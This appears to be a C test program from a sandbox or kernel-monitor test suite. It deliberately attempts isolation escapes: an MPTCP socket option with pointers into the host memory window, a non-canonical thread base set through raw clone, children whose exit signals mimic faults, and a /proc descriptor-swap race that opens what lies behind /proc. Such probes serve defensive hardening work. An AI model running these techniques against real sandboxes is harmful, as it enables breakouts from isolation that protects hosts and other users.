/* Pointers and numbers inside structures and registers that the kernel or the processor would act
 * on where no generic check looks. */
#include "hostile.h"
#include <netinet/in.h>
#include <sched.h>
#include <sys/socket.h>
#include <sys/syscall.h>

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif
#define SOL_MPTCP_LEVEL 284
#define FULL_INFO 4
#define WINDOW 0x100000000000ul /* where guest memory lies in the monitor */
#define NOT_CANONICAL 0x8000000000000000ul

struct full_info { /* the kernel's struct mptcp_full_info */
    uint32_t tcp_kernel, tcp_user, flow_kernel, flow_user, flows, arrays;
    uint64_t flow_info, tcp_info;
    char rest[256];
};

/* The answer goes through two pointers inside the answer itself: host addresses, if passed on. */
static void mptcp_answer(void) {
    struct sockaddr_in address = {.sin_family = AF_INET};
    socklen_t size = sizeof address;
    unsigned char target[512];
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int listener = socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP);
    int client = socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP);
    if (listener < 0 || client < 0)
        return; /* this kernel has none */
    IS(bind(listener, (struct sockaddr *)&address, size) == 0 && listen(listener, 1) == 0);
    IS(getsockname(listener, (struct sockaddr *)&address, &size) == 0);
    IS(connect(client, (struct sockaddr *)&address, size) == 0);
    for (int host = 0; host < 2; host++) {
        memset(target, 0xee, sizeof target);
        struct full_info info = {.tcp_user = 64, .arrays = 1};
        info.tcp_info = (uint64_t)target + (host ? WINDOW : 0);
        size = sizeof info;
        getsockopt(client, SOL_MPTCP_LEVEL, FULL_INFO, &info, &size);
        for (size_t i = 0; i < sizeof target; i++)
            if (target[i] != 0xee) {
                printf("OUT of bounds: the kernel wrote where a structure said\n");
                break;
            }
    }
    close(listener);
    close(client);
}

static long raw_clone(unsigned long flags, void *stack, unsigned long tls) {
    register long r10 __asm__("r10") = 0;
    register unsigned long r8 __asm__("r8") = tls;
    long result = SYS_clone;
    __asm__ volatile(
        "syscall\n\ttest %%rax, %%rax\n\tjnz 1f\n\tmov $60, %%eax\n\txor %%edi, %%edi\n\t"
        "syscall\n1:"
        : "+a"(result)
        : "D"(flags), "S"(stack), "d"(0), "r"(r10), "r"(r8)
        : "rcx", "r11", "memory");
    return result;
}

/* A base address that no processor loads. */
static void bad_thread_base(void) {
    static char stack[4096];
    unsigned long flags = CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD;
    printf("thread base: %ld\n", raw_clone(flags | CLONE_SETTLS, stack + 4096, NOT_CANONICAL));
}

/* A child whose end is announced by a signal that the monitor takes for its own fault. */
static void fault_like_child(void) {
    const int signals[] = {SIGSEGV, SIGBUS, SIGSTKFLT};
    for (size_t i = 0; i < sizeof signals / sizeof *signals; i++) {
        signal(signals[i], SIG_IGN);
        long child = syscall(SYS_clone, (long)signals[i], 0, 0, 0, 0);
        if (child == 0)
            _exit(0);
        if (child > 0)
            pause_ms(50);
    }
}

/* "..": from a directory of /proc that took another's place between look and use. */
static volatile int ended;
static int proc_fd, other_fd;
#define SWAPPED 60
static void *swap(void *unused) {
    while (!ended) {
        dup2(proc_fd, SWAPPED);
        dup2(other_fd, SWAPPED);
    }
    return unused;
}
static void look_behind_proc(void) {
    pthread_t thread;
    char entry[4096];
    proc_fd = open("/proc/self/task", O_RDONLY | O_DIRECTORY);
    other_fd = open("/usr/bin", O_RDONLY | O_DIRECTORY);
    dup2(other_fd, SWAPPED);
    if (setgid(1) || setuid(1) || pthread_create(&thread, NULL, swap, NULL))
        return;
    for (int64_t end = now_ms() + 2000; now_ms() < end;) {
        char link[64], target[64];
        int fd = openat(SWAPPED, "..", O_PATH | O_DIRECTORY), list = -1;
        if (fd < 0)
            continue;
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        ssize_t length = readlink(link, target, sizeof target);
        if (length == 1) { /* the root of something else than the instance's files */
            list = openat(fd, ".", O_RDONLY | O_DIRECTORY);
            if (list >= 0 && syscall(SYS_getdents64, list, entry, sizeof entry) >= 0)
                printf("OPENED what is behind /proc\n");
            mkdirat(fd, "7:sys:kernel:..:..:self:fd", 0700);
            int forged = openat(fd, "7:sys:kernel:..:..:self:fd", O_RDONLY | O_DIRECTORY);
            if (forged >= 0 && syscall(SYS_getdents64, forged, entry, sizeof entry) > 0)
                printf("OPENED the monitor's own descriptors\n");
            close(forged);
        }
        close(list);
        close(fd);
    }
    ended = 1;
    pthread_join(thread, NULL);
}

int main(void) {
    mptcp_answer();
    bad_thread_base();
    in_child("fault-like child", fault_like_child, 10);
    in_child("behind proc", look_behind_proc, 10);
    survived();
    return 0;
}
